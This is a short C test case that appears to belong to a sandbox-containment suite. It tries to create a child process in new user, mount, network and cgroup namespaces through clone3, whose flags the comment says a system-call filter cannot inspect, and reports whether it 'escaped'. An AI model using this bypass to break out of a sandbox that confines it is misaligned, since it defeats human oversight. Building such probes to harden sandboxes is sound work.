// attack: a child in namespaces of its own, by clone3(2), whose flags a system call filter cannot read
// judge: accepted
#include "attack.h"
#include <linux/sched.h>
static void attempt(uint64_t flags)
{
    struct clone_args arguments = { .flags = flags, .exit_signal = SIGCHLD };
    long pid = syscall(SYS_clone3, &arguments, sizeof arguments);
    if (pid == 0) _exit(0);
    if (pid > 0) escaped("clone3(0x%lx)", (long)flags);
}
int main(void)
{
    attempt(CLONE_NEWUSER);
    attempt(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET);
    attempt(CLONE_NEWNS);
    attempt(CLONE_INTO_CGROUP);
    return contained();
}
